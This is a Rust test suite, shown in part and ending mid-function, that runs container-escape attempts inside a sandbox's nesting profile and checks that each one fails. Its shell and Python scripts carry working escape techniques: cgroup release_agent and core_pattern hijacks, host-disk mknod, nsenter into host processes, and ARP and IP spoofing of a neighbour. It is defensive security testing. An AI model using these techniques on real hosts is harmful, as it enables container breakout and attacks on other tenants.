//! The abuse suite for what only the `nesting` profile has: every
//! capability in the instance's user namespace, nested namespaces, a
//! delegated cgroup v1 tree, the real dockerd with `--privileged`
//! containers, the pinned procfs and sysfs under /dev/.nesting, and
//! /var/lib/docker on the instance's own disk. Each attempt runs as instance
//! root through the real API, in the instance or in a `--privileged`
//! container of its dockerd, and must fail inside; after each one the host
//! is checked from the host's side (its sysctls, release agents, mounts,
//! cgroup hierarchies, the instance's host-side limits, listeners on the
//! host, a canary file a would-be release agent makes) and so are the
//! neighbours. Needs root.
//!
//! An attempt's script prints `RAN` first (so a script that never ran
//! cannot pass) and `ESCAPED: ...` for every step that worked.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use playground_tests::{bridge_link_local, leftovers, wait_until_clean, TestServer};

/// Small limits so resource attacks hit them quickly (as in abuse.rs).
const LIMITS: [&str; 4] = [
    "--instance-memory-mib=256",
    "--instance-pids=200",
    "--instance-disk-mib=128",
    "--instance-cpus=0.5",
];
const DISK_MIB: u64 = 128;
const PIDS: u64 = 200;

/// Names what the attempts make (a cgroup hierarchy, mounts), to look for
/// on the host.
const MARK: &str = "abusenesting";

/// What a host listener answers; a script that prints it reached the host.
const HOST_ANSWER: &str = "host-listener";

/// Where an attempt runs.
#[derive(Clone, Copy, Debug)]
enum Place {
    /// As instance root, in the instance.
    Instance,
    /// In `docker run --privileged busybox` inside the instance.
    Privileged,
    /// In `docker run --privileged --pid=host --net=host -v /:/host busybox`:
    /// the instance's namespaces and root, as seen from a container.
    PrivilegedHost,
    /// In `docker run --privileged`, chrooted into the instance's root file
    /// system (mounted read-only) for its python3: system calls made from
    /// the privileged container's namespaces and cgroup.
    PrivilegedPython,
}

struct Attempt {
    what: &'static str,
    place: Place,
    script: String,
}

fn at(place: Place, what: &'static str, script: impl Into<String>) -> Attempt {
    Attempt {
        what,
        place,
        script: script.into(),
    }
}

/// A shell line that makes the raw system call `nr` with `args` through
/// python's ctypes and prints `ESCAPED` unless it fails with `errno`.
fn syscall_fails(label: &str, nr: i64, args: &[i64], errno: &str) -> String {
    let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    format!(
        "python3 -c 'import ctypes,errno,sys; l=ctypes.CDLL(None,use_errno=True); \
         r=l.syscall(*[ctypes.c_long(int(a)) for a in sys.argv[2:]]); \
         e=errno.errorcode.get(ctypes.get_errno(),\"0\") if r<0 else \"OK\"; \
         print(sys.argv[1], r, e); sys.exit(0 if (r, e) == (-1, \"{errno}\") else 1)' \
         {label} {nr} {} || echo 'ESCAPED: {label} did not fail with {errno}'",
        args.join(" ")
    )
}

/// The attempts; placeholders in capitals are filled in by [`Ctx::fill`].
fn attempts() -> Vec<Attempt> {
    use Place::*;
    let mut list = vec![
        at(
            Privileged,
            "a --privileged container mounts or reads the host's root disk",
            "mkdir -p /m
             ls -l /dev | grep -E '^b' && echo 'block devices are visible'
             for d in HOSTDEV /dev/vda /dev/sda /dev/nvme0n1 /dev/xvda /dev/loop0; do
               mount $d /m 2>/dev/null && echo \"ESCAPED: mounted $d\"
               head -c 512 $d 2>/dev/null | wc -c | grep -qv '^0$' && echo \"ESCAPED: read $d\"
             done",
        ),
        at(
            Privileged,
            "a --privileged container makes a node of the host disk's major:minor (and of loop devices) and reads it",
            "mkdir -p /m
             mknod /hd b HOSTMAJ HOSTMIN && echo 'made the node'
             head -c 512 /hd 2>/dev/null | wc -c | grep -qv '^0$' && echo 'ESCAPED: read the host disk'
             mount /hd /m 2>/dev/null && echo 'ESCAPED: mounted the host disk'
             for i in 0 1 2 3 4 5 6 7; do
               mknod /loop$i b 7 $i 2>/dev/null
               head -c 512 /loop$i 2>/dev/null | wc -c | grep -qv '^0$' && echo \"ESCAPED: read loop$i\"
             done",
        ),
        at(
            Instance,
            "instance root makes a node of the host disk's major:minor (and of loop devices) and reads it",
            "mkdir -p /m
             mknod /tmp/hd b HOSTMAJ HOSTMIN && echo 'made the node'
             head -c 512 /tmp/hd 2>/dev/null | wc -c | grep -qv '^0$' && echo 'ESCAPED: read the host disk'
             mount /tmp/hd /m 2>/dev/null && echo 'ESCAPED: mounted the host disk'
             for i in 0 1 2 3 4 5 6 7; do
               mknod /tmp/loop$i b 7 $i 2>/dev/null
               head -c 512 /tmp/loop$i 2>/dev/null | wc -c | grep -qv '^0$' && echo \"ESCAPED: read loop$i\"
             done",
        ),
        at(
            Privileged,
            "a --privileged container reads /dev/mem, /dev/kmem, /dev/port",
            "for n in 'mem 1' 'kmem 2' 'port 4'; do
               set -- $n
               mknod /$1 c 1 $2 2>/dev/null
               head -c 16 /$1 2>/dev/null | wc -c | grep -qv '^0$' && echo \"ESCAPED: read /$1\"
               head -c 16 /dev/$1 2>/dev/null | wc -c | grep -qv '^0$' && echo \"ESCAPED: read /dev/$1\"
             done",
        ),
    ];
    // The classic cgroup v1 escape: a release agent the host's kernel runs
    // as the host's root, at a path the host can reach (the overlay's upper
    // directory, which the mount table shows).
    let release_agent =
        "upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mounts | head -1)
         echo \"upper directory: $upper\"
         printf '#!/bin/sh\\ntouch CANARY\\n' > /agent; chmod +x /agent
         mkdir -p /cg
         for c in rdma misc memory pids cpu; do
           mount -t cgroup -o $c cgroup /cg 2>/dev/null && echo \"mounted $c\" && break
         done
         mkdir -p /cg/x && echo 1 > /cg/x/notify_on_release
         echo 1 > /sys/fs/cgroup/memory/notify_on_release 2>/dev/null
         for f in /cg/release_agent /sys/fs/cgroup/*/release_agent; do
           [ -e \"$f\" ] || continue
           echo \"$upper/agent\" > \"$f\" 2>/dev/null && echo \"ESCAPED: wrote $f\"
         done
         sh -c 'echo $$ > /cg/x/cgroup.procs; true'
         sleep 1; rmdir /cg/x 2>/dev/null; umount /cg 2>/dev/null; true";
    list.extend([
        at(
            Privileged,
            "cgroup v1 release_agent from a --privileged container",
            release_agent,
        ),
        at(
            Instance,
            "cgroup v1 release_agent from the instance",
            release_agent,
        ),
    ]);
    let new_hierarchy = "mkdir -p /cgx
         mount -t cgroup -o none,name=MARK cgroup /cgx 2>/dev/null && echo 'ESCAPED: made a new hierarchy'
         umount /cgx 2>/dev/null
         if mount -t cgroup -o none,name=systemd cgroup /cgx 2>/dev/null; then
           echo 'mounted the existing name=systemd hierarchy'
           echo /CANARY > /cgx/release_agent 2>/dev/null && echo 'ESCAPED: wrote the name=systemd release_agent'
           mkdir /cgx/MARK 2>/dev/null && echo 'ESCAPED: made a cgroup in the host name=systemd root'
           echo 1 > /cgx/notify_on_release 2>/dev/null && echo 'ESCAPED: wrote the name=systemd notify_on_release'
           umount /cgx
         fi
         grep MARK /proc/self/cgroup && echo 'ESCAPED: the new hierarchy is listed'
         true";
    list.extend([
        at(
            Instance,
            "mount -t cgroup -o none,name=x: a new cgroup v1 hierarchy (instance)",
            new_hierarchy,
        ),
        at(
            Privileged,
            "mount -t cgroup -o none,name=x: a new cgroup v1 hierarchy (--privileged container)",
            new_hierarchy,
        ),
        at(
            Instance,
            "raise the instance's own limits at its delegated cgroup root",
            "try() { echo \"$2\" > \"$1\" 2>/dev/null && echo \"ESCAPED: wrote $2 to $1: $(cat $1)\"; true; }
             try /sys/fs/cgroup/memory/memory.limit_in_bytes 1073741824
             try /sys/fs/cgroup/memory/memory.limit_in_bytes -1
             try /sys/fs/cgroup/memory/memory.memsw.limit_in_bytes -1
             try /sys/fs/cgroup/pids/pids.max max
             try /sys/fs/cgroup/cpu/cpu.cfs_quota_us -1
             try /sys/fs/cgroup/cpu/cpu.shares 262144
             try /sys/fs/cgroup/devices/devices.allow a
             chown 0:0 /sys/fs/cgroup/memory/memory.limit_in_bytes 2>/dev/null && echo 'ESCAPED: took the limit file'
             chmod 666 /sys/fs/cgroup/pids/pids.max 2>/dev/null && echo 'ESCAPED: chmod of the limit file'
             mkdir -p /cgm && mount -t cgroup -o memory cgroup /cgm && try /cgm/memory.limit_in_bytes -1
             umount /cgm 2>/dev/null
             echo $$ > /sys/fs/cgroup/memory/../cgroup.procs 2>/dev/null && echo 'ESCAPED: left the cgroup'
             true",
        ),
    ]);
    let core_pattern = "w() { echo '|/CANARY' > \"$1\" 2>/dev/null && echo \"ESCAPED: wrote $1\"; true; }
         w /proc/sys/kernel/core_pattern
         w /proc/sys/kernel/modprobe
         v=$(cat /proc/sys/vm/swappiness); echo $v > /proc/sys/vm/swappiness 2>/dev/null && echo 'ESCAPED: wrote vm.swappiness'
         mkdir -p /p && mount -t proc proc /p && w /p/sys/kernel/core_pattern
         umount /p 2>/dev/null
         umount /proc/sys/net 2>/dev/null; umount /proc/sys 2>/dev/null
         w /proc/sys/kernel/core_pattern
         true";
    list.extend([
        at(
            Instance,
            "core_pattern: through /proc/sys, a fresh procfs, with /proc/sys unmounted",
            core_pattern,
        ),
        at(
            Privileged,
            "core_pattern from a --privileged container (its /proc/sys is writable)",
            core_pattern,
        ),
        at(
            Privileged,
            "/proc/sysrq-trigger from a --privileged container",
            "echo h > /proc/sysrq-trigger 2>/dev/null && echo 'ESCAPED: wrote sysrq-trigger'
             mkdir -p /p && mount -t proc proc /p && { echo h > /p/sysrq-trigger 2>/dev/null && echo 'ESCAPED: fresh procfs sysrq-trigger'; }
             true",
        ),
        at(
            Instance,
            "unmount the /proc masks, then /proc/kcore, /proc/sysrq-trigger, host sysctls",
            "for m in $(awk '$2 ~ \"^/proc/\" {print $2}' /proc/self/mounts | sort -r); do umount \"$m\" && echo \"unmounted $m\"; done
             head -c 16 /proc/kcore 2>/dev/null | wc -c | grep -qv '^0$' && echo 'ESCAPED: read /proc/kcore'
             echo h > /proc/sysrq-trigger 2>/dev/null && echo 'ESCAPED: wrote /proc/sysrq-trigger'
             echo '|/CANARY' > /proc/sys/kernel/core_pattern 2>/dev/null && echo 'ESCAPED: wrote core_pattern'
             echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo 'ESCAPED: dropped the host caches'
             head -c 16 /proc/timer_list 2>/dev/null | wc -c | grep -qv '^0$' && echo 'ESCAPED: read /proc/timer_list'
             true",
        ),
        at(
            Instance,
            "unmount the cover of /dev/.nesting and write host-owned files of the pinned procfs and sysfs",
            "umount /dev/.nesting && echo 'unmounted the cover'
             ls /dev/.nesting/proc/sys/kernel/core_pattern /dev/.nesting/sys/kernel && echo 'the pins are readable'
             w() { v=$(cat \"$1\" 2>/dev/null); echo \"${2:-$v}\" > \"$1\" 2>/dev/null && echo \"ESCAPED: wrote $1\"; true; }
             w /dev/.nesting/proc/sys/kernel/core_pattern '|/CANARY'
             w /dev/.nesting/proc/sys/kernel/modprobe /CANARY
             w /dev/.nesting/proc/sys/vm/swappiness
             w /dev/.nesting/proc/sys/vm/drop_caches 1
             w /dev/.nesting/sys/kernel/uevent_helper /CANARY
             w /dev/.nesting/sys/kernel/mm/ksm/run
             w /dev/.nesting/sys/kernel/mm/transparent_hugepage/defrag madvise
             w /dev/.nesting/sys/block/HOSTDEVNAME/queue/read_ahead_kb
             mount -o remount,rw /dev/.nesting/sys 2>/dev/null; w /dev/.nesting/sys/kernel/mm/ksm/run
             true",
        ),
        at(
            Privileged,
            "write /sys/kernel/... from a --privileged container (and after remounting /sys read-write)",
            "w() { v=$(cat \"$1\" 2>/dev/null); echo \"${2:-$v}\" > \"$1\" 2>/dev/null && echo \"ESCAPED: wrote $1\"; true; }
             for pass in 1 2; do
               w /sys/kernel/uevent_helper /CANARY
               w /sys/kernel/mm/ksm/run
               w /sys/kernel/mm/transparent_hugepage/defrag madvise
               w /sys/kernel/profiling
               w /sys/block/HOSTDEVNAME/queue/read_ahead_kb
               mount -o remount,rw /sys 2>/dev/null
             done
             mkdir -p /s && mount -t sysfs sysfs /s && w /s/kernel/uevent_helper /CANARY
             true",
        ),
        at(
            Instance,
            "load a kernel module: init_module, finit_module, delete_module",
            format!(
                "ls /proc/modules 2>/dev/null && echo 'ESCAPED: /proc/modules appeared'\n{}\n{}\n{}",
                syscall_fails("init_module", libc::SYS_init_module, &[0, 0, 0], "EPERM"),
                syscall_fails("finit_module", libc::SYS_finit_module, &[0, 0, 0], "EPERM"),
                syscall_fails("delete_module", libc::SYS_delete_module, &[0, 0], "EPERM"),
            ),
        ),
        at(
            PrivilegedPython,
            "load a kernel module from a --privileged container",
            format!(
                "{}\n{}",
                syscall_fails("init_module", libc::SYS_init_module, &[0, 0, 0], "EPERM"),
                syscall_fails("finit_module", libc::SYS_finit_module, &[0, 0, 0], "EPERM"),
            ),
        ),
        at(
            Instance,
            "kexec_load and kexec_file_load",
            format!(
                "{}\n{}",
                syscall_fails("kexec_load", libc::SYS_kexec_load, &[0, 0, 0, 0], "EPERM"),
                syscall_fails(
                    "kexec_file_load",
                    libc::SYS_kexec_file_load,
                    &[-1, -1, 0, 0, 4],
                    "EPERM"
                ),
            ),
        ),
        at(
            PrivilegedPython,
            "kexec_load from a --privileged container",
            syscall_fails("kexec_load", libc::SYS_kexec_load, &[0, 0, 0, 0], "EPERM"),
        ),
        at(
            Instance,
            "BPF (map create, program load) and perf_event_open",
            format!(
                "{}\n{}\n{}",
                syscall_fails("bpf_map_create", libc::SYS_bpf, &[0, 0, 0], "EPERM"),
                syscall_fails("bpf_prog_load", libc::SYS_bpf, &[5, 0, 0], "EPERM"),
                syscall_fails(
                    "perf_event_open",
                    libc::SYS_perf_event_open,
                    &[0, 0, -1, -1, 0],
                    "EPERM"
                ),
            ),
        ),
        at(
            PrivilegedPython,
            "BPF from a --privileged container",
            syscall_fails("bpf_prog_load", libc::SYS_bpf, &[5, 0, 0], "EPERM"),
        ),
        at(
            Instance,
            "kernel keyrings: keyctl, add_key, request_key",
            format!(
                "{}\n{}\n{}",
                syscall_fails("keyctl", libc::SYS_keyctl, &[0, 0, 0, 0, 0], "ENOSYS"),
                syscall_fails("add_key", libc::SYS_add_key, &[0, 0, 0, 0, 0], "ENOSYS"),
                syscall_fails(
                    "request_key",
                    libc::SYS_request_key,
                    &[0, 0, 0, 0],
                    "ENOSYS"
                ),
            ),
        ),
        at(
            PrivilegedPython,
            "kernel keyrings from a --privileged container",
            syscall_fails("keyctl", libc::SYS_keyctl, &[0, 0, 0, 0, 0], "ENOSYS"),
        ),
        at(
            Instance,
            "a nested user namespace: unshare -U, unshare(2), clone(2)",
            format!(
                "unshare -U -r id 2>/dev/null && echo 'ESCAPED: unshare -U'\n{}\n{}\n{}",
                syscall_fails(
                    "unshare_newuser",
                    libc::SYS_unshare,
                    &[libc::CLONE_NEWUSER as i64],
                    "EPERM"
                ),
                syscall_fails(
                    "clone_newuser",
                    libc::SYS_clone,
                    &[(libc::CLONE_NEWUSER | libc::SIGCHLD) as i64, 0, 0, 0, 0],
                    "EPERM"
                ),
                // A new mount and pid namespace is allowed; a user one inside still not.
                "unshare -m -p -f sh -c 'unshare -U true 2>/dev/null && echo \"ESCAPED: unshare -U in a nested namespace\"'; true",
            ),
        ),
        at(
            Privileged,
            "a nested user namespace from a --privileged container",
            "unshare -U true 2>/dev/null && echo 'ESCAPED: unshare -U'
             unshare -r true 2>/dev/null && echo 'ESCAPED: unshare -r'
             true",
        ),
        at(
            PrivilegedPython,
            "clone(CLONE_NEWUSER) from a --privileged container",
            syscall_fails(
                "clone_newuser",
                libc::SYS_clone,
                &[(libc::CLONE_NEWUSER | libc::SIGCHLD) as i64, 0, 0, 0, 0],
                "EPERM",
            ),
        ),
        at(
            Instance,
            "reach host processes: find, signal, nsenter the host's server and init",
            "[ -e /proc/SERVERPID ] && grep -q playground /proc/SERVERPID/cmdline 2>/dev/null && echo 'ESCAPED: the server is visible'
             kill -0 SERVERPID 2>/dev/null && grep -q playground /proc/SERVERPID/cmdline 2>/dev/null && echo 'ESCAPED: can signal the server'
             for p in /proc/[0-9]*; do
               c=$(cat $p/comm 2>/dev/null)
               case \"$c\" in playground|HOSTINIT) echo \"ESCAPED: host process $p: $c\";; esac
             done
             echo \"pid 1 is $(cat /proc/1/comm)\"
             [ \"$(cat /proc/1/comm)\" = init ] || echo 'ESCAPED: pid 1 is not the instance init'
             nsenter -t 1 -m -p -n -u -i sh -c 'ls /proc/SERVERPID >/dev/null 2>&1 && echo \"ESCAPED: nsenter reached the host\"; hostname' 2>&1
             true",
        ),
        at(
            PrivilegedHost,
            "--pid=host --net=host -v /:/host from a --privileged container reaches only the instance",
            "echo \"pid 1 is $(cat /proc/1/comm)\"
             [ \"$(cat /proc/1/comm)\" = init ] || echo 'ESCAPED: pid 1 is not the instance init'
             [ -e /proc/SERVERPID ] && grep -q playground /proc/SERVERPID/cmdline 2>/dev/null && echo 'ESCAPED: the server is visible'
             [ -e /host/DATADIR ] && echo 'ESCAPED: the host data directory is visible'
             ip -o link | grep -E 'pgb|pgv' && echo 'ESCAPED: a host network device'
             nsenter -t 1 -m -p -n sh -c 'ls / | grep -q DATADIRBASE && echo ESCAPED: nsenter' 2>&1
             true",
        ),
        at(
            Instance,
            "reach a listener on the host's 127.0.0.1 (and the host's other local addresses)",
            "for a in 127.0.0.1 10.100.0.1 172.17.0.1 HOSTV4; do
               curl -s -m 2 http://$a:LOPORT/ | grep -q HOST_ANSWER && echo \"ESCAPED: $a:LOPORT\"
             done
             curl -s -m 2 -g 'http://[::1]:ANYPORT/' | grep -q HOST_ANSWER && echo 'ESCAPED: [::1]'
             true",
        ),
        at(
            Privileged,
            "reach a listener on the host's 127.0.0.1 from a --privileged container",
            "for a in 127.0.0.1 172.17.0.1 10.100.0.1 HOSTV4; do
               echo | nc -w 2 $a LOPORT 2>/dev/null | grep -q HOST_ANSWER && echo \"ESCAPED: $a:LOPORT\"
             done
             true",
        ),
        at(
            Instance,
            "reach host services over TCP through the session bridge's IPv6 link-local address",
            "ping -6 -c 2 -W 1 ff02::1%eth0 >/dev/null 2>&1
             for a in BRIDGE_LL $(ip -6 neigh show dev eth0 | cut -d' ' -f1 | sort -u); do
               curl -s -m 3 -g \"http://[$a%eth0]:ANYPORT/\" | grep -q HOST_ANSWER && echo \"ESCAPED: TCP to the host at [$a%eth0]:ANYPORT\"
             done
             true",
        ),
        at(
            Instance,
            "reach host services over UDP at the host's own IPv4 addresses, routed on-link to the session bridge",
            // UDP only: a TCP reply of the host would leave by its default route.
            "for a in HOSTV4; do ip route add $a/32 dev eth0 2>/dev/null; done
             python3 -c '
import socket, sys
for a in sys.argv[1:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(3):
        s.sendto(b\"abuse-udp\", (a, UDPPORT))
' HOSTV4
             for a in HOSTV4; do ip route del $a/32 dev eth0 2>/dev/null; done
             true",
        ),
        at(
            Instance,
            "raw frames, a spoofed ARP claim and spoofed IP packets at another session's instance",
            "ip route add VICTIM/32 dev eth0
             ip neigh replace VICTIM lladdr ff:ff:ff:ff:ff:ff dev eth0 nud permanent
             python3 -c '
import socket, struct
victim = socket.inet_aton(\"VICTIM\")
mark = b\"ABUSE-ATTACK\" * 4
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((\"eth0\", 0))
mac = s.getsockname()[4]
bc = b\"\\xff\" * 6
def csum(b):
    t = sum(struct.unpack(\"!%dH\" % (len(b) // 2), b))
    t = (t >> 16) + (t & 0xffff)
    return ~(t + (t >> 16)) & 0xffff
for src in [\"10.100.0.1\", \"VICTIM\", \"127.0.0.1\"]:
    udp = struct.pack(\"!HHHH\", 4444, 4444, 8 + len(mark), 0) + mark
    ip = struct.pack(\"!BBHHHBBH4s4s\", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), victim)
    ip = ip[:10] + struct.pack(\"!H\", csum(ip)) + ip[12:]
    for dst in [bc, b\"\\x33\\x33\\x00\\x00\\x00\\x01\"]:
        s.send(dst + mac + b\"\\x08\\x00\" + ip + udp)
arp = struct.pack(\"!HHBBH\", 1, 0x0800, 6, 4, 2) + mac + victim + bc + victim
for i in range(3):
    s.send(bc + mac + b\"\\x08\\x06\" + arp + mark)
    s.send(bc + mac + b\"\\x88\\xb5\" + mark)
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3):
    r.sendto(struct.pack(\"!HHHH\", 4444, 4444, 8 + len(mark), 0) + mark, (\"VICTIM\", 0))
    u.sendto(mark, (\"VICTIM\", 4444))
print(\"sent\")
'
             ping -c 2 -W 1 -p 4142555345 VICTIM >/dev/null 2>&1
             ip neigh del VICTIM dev eth0
             ip route del VICTIM/32 dev eth0
             true",
        ),
    ]);
    list
}

/// What a script is run as, through the exec API: written to a file in
/// the instance, then run where `place` says.
fn wrap(place: Place, n: usize, script: &str) -> String {
    let file = format!("/tmp/attempt-{n}.sh");
    let write = format!("cat > {file} <<'ATTEMPT_END'\necho RAN\n{script}\nATTEMPT_END\n");
    let run = match place {
        Place::Instance => format!("sh {file}"),
        Place::Privileged => {
            format!("docker run --rm --privileged -v {file}:/attempt.sh busybox sh /attempt.sh")
        }
        Place::PrivilegedHost => format!(
            "docker run --rm --privileged --pid=host --net=host -v /:/host -v {file}:/attempt.sh busybox sh /attempt.sh"
        ),
        Place::PrivilegedPython => format!(
            "docker run --rm --privileged -v /:/instance:ro busybox chroot /instance sh {file}"
        ),
    };
    format!("{write}{run}")
}

/// What the attempts are given, and what the host is checked for.
struct Ctx {
    values: Vec<(&'static str, String)>,
    canary: PathBuf,
    /// The attacker instance's cgroup directory name on the host.
    instance_cgroup: String,
    lo_hits: Arc<AtomicUsize>,
    any_hits: Arc<AtomicUsize>,
    udp_hits: Arc<AtomicUsize>,
    root_dev: String,
}

impl Ctx {
    fn fill(&self, script: &str) -> String {
        let mut s = script.to_string();
        for (key, value) in &self.values {
            s = s.replace(key, value);
        }
        s
    }

    /// The host's view of everything an attempt could have changed.
    fn host_view(&self) -> BTreeMap<String, String> {
        let mut files: Vec<PathBuf> = [
            "/proc/sys/kernel/core_pattern",
            "/proc/sys/kernel/modprobe",
            "/proc/sys/kernel/hostname",
            "/proc/sys/kernel/domainname",
            "/proc/sys/vm/swappiness",
            "/proc/sys/net/ipv4/ip_forward",
            "/proc/sys/net/ipv4/conf/all/forwarding",
            "/proc/sys/net/ipv6/conf/all/forwarding",
            "/sys/kernel/uevent_helper",
            "/sys/kernel/profiling",
            "/sys/kernel/kexec_loaded",
            "/sys/kernel/mm/ksm/run",
            "/sys/kernel/mm/transparent_hugepage/defrag",
            "/proc/self/cgroup",
        ]
        .iter()
        .map(PathBuf::from)
        .collect();
        files.push(format!("/sys/block/{}/queue/read_ahead_kb", self.root_dev_name()).into());
        for entry in std::fs::read_dir("/sys/fs/cgroup").unwrap().flatten() {
            files.push(entry.path().join("release_agent"));
            let mine = entry.path().join("playground").join(&self.instance_cgroup);
            for limit in [
                "memory.limit_in_bytes",
                "memory.memsw.limit_in_bytes",
                "pids.max",
                "cpu.cfs_quota_us",
                "cpu.shares",
                "cpuset.cpus",
                "devices.list",
                "notify_on_release",
            ] {
                files.push(mine.join(limit));
            }
        }
        let mut view: BTreeMap<String, String> = files
            .into_iter()
            .filter(|f| f.exists())
            .map(|f| {
                let text = std::fs::read_to_string(&f).unwrap_or_else(|e| format!("<{e}>"));
                (f.display().to_string(), text)
            })
            .collect();
        view.insert(
            "/proc/modules exists".into(),
            Path::new("/proc/modules").exists().to_string(),
        );
        view.insert(
            "/dev/mem exists".into(),
            Path::new("/dev/mem").exists().to_string(),
        );
        view
    }

    fn root_dev_name(&self) -> &str {
        self.root_dev.rsplit('/').next().unwrap()
    }

    /// What must hold on the host after every attempt, beyond an
    /// unchanged [`Ctx::host_view`]; each breach as a sentence. Counts
    /// what reached the listeners since the last call.
    fn host_breaches(&self) -> Vec<String> {
        let mut breaches = Vec::new();
        if self.canary.exists() {
            breaches.push(format!(
                "the host ran a would-be release agent: {} exists",
                self.canary.display()
            ));
        }
        for table in ["/proc/1/mountinfo", "/proc/self/mountinfo"] {
            let mounts = std::fs::read_to_string(table).unwrap();
            for line in mounts.lines().filter(|l| l.contains(MARK)) {
                breaches.push(format!(
                    "a mount of the instance in the host's {table}: {line}"
                ));
            }
        }
        for (what, hits) in [
            ("TCP 127.0.0.1", &self.lo_hits),
            ("TCP [::]", &self.any_hits),
            ("UDP [::]", &self.udp_hits),
        ] {
            let n = hits.swap(0, Ordering::SeqCst);
            if n > 0 {
                breaches.push(format!(
                    "the host's {what} listener was reached {n} time(s)"
                ));
            }
        }
        let dmesg = std::process::Command::new("dmesg").output().unwrap();
        if String::from_utf8_lossy(&dmesg.stdout)
            .to_lowercase()
            .contains("sysrq")
        {
            breaches.push("the kernel log mentions sysrq".into());
        }
        breaches
    }
}

/// Host listeners: TCP on 127.0.0.1, TCP on every address (`[::]`, IPv4
/// too), UDP on every address; each counts what reaches it.
async fn host_listeners() -> ((u16, u16, u16), [Arc<AtomicUsize>; 3]) {
    let counters = [(); 3].map(|_| Arc::new(AtomicUsize::new(0)));
    let mut ports = Vec::new();
    for (address, count) in ["127.0.0.1:0", "[::]:0"].iter().zip(&counters) {
        let listener = tokio::net::TcpListener::bind(address).await.unwrap();
        ports.push(listener.local_addr().unwrap().port());
        let count = count.clone();
        tokio::spawn(async move {
            use tokio::io::AsyncWriteExt;
            while let Ok((mut stream, from)) = listener.accept().await {
                eprintln!("host listener: TCP connection from {from}");
                count.fetch_add(1, Ordering::SeqCst);
                let answer = format!("HTTP/1.0 200 OK\r\n\r\n{HOST_ANSWER}\n");
                let _ = stream.write_all(answer.as_bytes()).await;
            }
        });
    }
    let udp = tokio::net::UdpSocket::bind("[::]:0").await.unwrap();
    ports.push(udp.local_addr().unwrap().port());
    let count = counters[2].clone();
    tokio::spawn(async move {
        let mut buffer = [0u8; 512];
        while let Ok((_, from)) = udp.recv_from(&mut buffer).await {
            let from: SocketAddr = from;
            eprintln!("host listener: UDP datagram from {from}");
            count.fetch_add(1, Ordering::SeqCst);
        }
    });
    ((ports[0], ports[1], ports[2]), counters)
}

/// The host's root file system's device (`/dev/vda`) and its major:minor.
fn host_root_device() -> (String, String, String) {
    let mountinfo = std::fs::read_to_string("/proc/1/mountinfo").unwrap();
    for line in mountinfo.lines() {
        let fields: Vec<&str> = line.split(' ').collect();
        if fields.get(4) == Some(&"/") {
            let (major, minor) = fields[2].split_once(':').unwrap();
            let after = line.split(" - ").nth(1).unwrap();
            let source = after.split(' ').nth(1).unwrap().to_string();
            return (source, major.into(), minor.into());
        }
    }
    panic!("no root mount in /proc/1/mountinfo");
}

/// The host's global IPv4 addresses.
fn host_ipv4() -> Vec<String> {
    let out = std::process::Command::new("ip")
        .args(["-4", "-o", "addr", "show", "scope", "global"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let mut addresses = Vec::new();
    for line in text.lines() {
        let words: Vec<&str> = line.split_whitespace().collect();
        if let Some(i) = words.iter().position(|w| *w == "inet") {
            addresses.push(words[i + 1].split('/').next().unwrap().to_string());
        }
    }
    addresses
}

/// A capture of frames carrying `ABUSE-ATTACK` on the instance's eth0,
/// counted into /tmp/capture.count.
const CAPTURE: &str = "cat > /tmp/capture.py <<'END'
import socket, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(('eth0', 0))
s.settimeout(1)
n = 0
open('/tmp/capture.count', 'w').write('0')
end = time.time() + 900
while time.time() < end:
    try:
        frame = s.recv(65535)
    except socket.timeout:
        continue
    if b'ABUSE-ATTACK' in frame or b'ABUSE' in frame:
        n += 1
        open('/tmp/capture.count', 'w').write(str(n))
END
setsid python3 /tmp/capture.py </dev/null >/tmp/capture.log 2>&1 &
for i in $(seq 50); do [ -e /tmp/capture.count ] && break; sleep 0.1; done
cat /tmp/capture.count";

async fn instance_ip(server: &TestServer, sid: &str, name: &str) -> String {
    let session = server.session(sid).await.unwrap();
    let value = serde_json::to_value(&session).unwrap();
    value["instances"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["name"] == name)
        .and_then(|i| i["ip"].as_str())
        .unwrap()
        .to_string()
}

async fn captured(server: &TestServer, sid: &str, name: &str) -> u64 {
    let out = server.exec(sid, name, "cat /tmp/capture.count").await;
    out.stdout
        .trim()
        .parse()
        .unwrap_or_else(|_| panic!("capture: {out:?}"))
}

/// The tests here run one at a time: each compares the host before and
/// after (free disk space, mount tables, listeners), which another test's
/// instances would move.
static ONE_AT_A_TIME: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

#[tokio::test(flavor = "multi_thread")]
async fn nesting_escape_attempts_fail_and_leave_the_host_and_neighbours_untouched() {
    let _alone = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start_nesting(&LIMITS).await;
    let sid = server.create_session().await.id;
    let attacker = server.add_instance(&sid).await;
    let neighbour = server.add_instance(&sid).await;
    // Another session: the victim of the network attempts.
    let other_sid = server.create_session().await.id;
    let victim = server.add_instance(&other_sid).await;
    let victim_ip = instance_ip(&server, &other_sid, &victim).await;

    server
        .exec(&sid, &neighbour, "echo safe > /root/keep")
        .await;
    server
        .exec(&other_sid, &victim, "echo safe > /root/keep")
        .await;
    for (s, name) in [(&sid, &neighbour), (&other_sid, &victim)] {
        let out = server.run(s, name, CAPTURE).await;
        assert_eq!(out.stdout.trim(), "0", "capture in {name}: {out:?}");
    }
    // dockerd starts on first use; busybox comes from the offline images.
    let out = server
        .run(
            &sid,
            &attacker,
            "docker pull busybox >/dev/null && docker run --rm --privileged busybox echo ready",
        )
        .await;
    assert_eq!(out.stdout.trim(), "ready", "{out:?}");

    let ((lo_port, any_port, udp_port), [lo_hits, any_hits, udp_hits]) = host_listeners().await;
